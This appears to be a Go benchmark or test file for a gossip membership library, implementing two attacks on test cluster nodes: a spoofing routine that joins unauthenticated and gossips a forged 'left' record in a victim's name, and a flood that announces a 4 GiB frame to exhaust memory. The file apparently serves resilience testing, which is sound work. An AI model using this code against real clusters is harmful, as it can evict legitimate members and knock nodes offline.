package rows

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/binary"
	"errors"
	"net"
	"sync"
	"time"

	"github.com/gotribes/tribes/internal/bench/fleet"
	"github.com/gotribes/tribes/internal/bench/ours"
	"github.com/gotribes/tribes/internal/wire"
	"github.com/gotribes/tribes/transport"
)

// A stranger is let in like anybody else where there is no key, and learns what members know.
type stranger struct {
	endpoint *transport.Endpoint
	mu       sync.Mutex
	known    map[string]*wire.Record // by name
	more     chan struct{}
}

// spoofTribes joins, learns the record of a member, and gossips to each of the others that it has left.
func spoofTribes(ctx context.Context, f *fleet.Fleet, to []*fleet.Node, victim *fleet.Node) (end func(), err error) {
	_, key, err := ed25519.GenerateKey(nil)
	if err != nil {
		return nil, err
	}
	signer := wire.Ed25519Signer{Key: key}
	address := f.Options().Address
	s := &stranger{known: map[string]*wire.Record{}, more: make(chan struct{}, 1)}
	s.endpoint, err = transport.New(transport.Config{Cluster: "default", Advertise: address, Key: key,
		Domains: func() []transport.Domain { return []transport.Domain{{Name: ours.Domain, Role: transport.RoleMember}} }})
	if err != nil {
		return nil, err
	}
	ln, err := net.Listen("tcp", address)
	if err != nil {
		return nil, err
	}
	go s.endpoint.Serve(ln, s.keep)
	end = func() { s.endpoint.Close() }
	own := wire.Record{Name: "stranger", Address: address, Domain: ours.Domain, Role: wire.Member, Incarnation: 1,
		Version: 1, State: wire.Alive}
	own.Seal(signer)
	for i, n := range to {
		l, err := s.endpoint.Dial(ctx, n.Address, transport.ID{})
		if err != nil {
			return end, err
		}
		s.keep(l)
		if i == 0 {
			s.say(l, &wire.Join{Domain: ours.Domain, Record: &own})
		}
		record, err := s.learn(ctx, victim.Name)
		if err != nil {
			return end, err
		}
		s.say(l, &wire.Gossip{Domain: ours.Domain, Records: []*wire.Record{forge(record, signer)}})
	}
	return end, nil
}

// forge is a member's record that says 'left', in the member's name, signed by another.
func forge(r *wire.Record, signer wire.Signer) *wire.Record {
	c := *r
	c.Version, c.State = 99, wire.Left
	c.Seal(signer)
	theirs := signer.PublicKey()
	copy(c.Body[bytes.Index(c.Body, theirs[:]):], r.Key[:]) // the body named the forger's key
	c.Key, c.ID = r.Key, r.ID
	return &c
}

func (s *stranger) say(l *transport.Link, m wire.Message) {
	var e wire.Encoder
	wire.Encode(&e, m)
	l.Send(e.Bytes())
}

// keep reads a link and remembers the records that it brings.
func (s *stranger) keep(l *transport.Link) {
	l.Start(func(p []byte) error {
		m, err := wire.Decode(p)
		if err != nil {
			return nil
		}
		var records []*wire.Record
		switch m := m.(type) {
		case *wire.Table:
			records = m.Records
		case *wire.Gossip:
			records = m.Records
		case *wire.Sync:
			records = m.Records
		}
		s.mu.Lock()
		for _, r := range records {
			s.known[r.Name] = r
		}
		s.mu.Unlock()
		select {
		case s.more <- struct{}{}:
		default:
		}
		return nil
	}, func(error) {})
}

// learn waits until a member's record has come.
func (s *stranger) learn(ctx context.Context, name string) (*wire.Record, error) {
	late := time.After(10 * time.Second)
	for {
		s.mu.Lock()
		r := s.known[name]
		s.mu.Unlock()
		if r != nil {
			return r, nil
		}
		select {
		case <-s.more:
		case <-ctx.Done():
			return nil, ctx.Err()
		case <-late:
			return nil, errors.New("the stranger was not given the victim's record within 10 s")
		}
	}
}

// bombTribes opens connections that announce a frame of 4 GiB and send zeros until they are closed.
func bombTribes(ctx context.Context, address string) error {
	return bombard(ctx, address, func(c net.Conn) {
		c.Write(binary.BigEndian.AppendUint32(nil, 1<<32-1))
		block := make([]byte, 1<<20)
		for range 256 {
			if _, err := c.Write(block); err != nil {
				return
			}
		}
	})
}
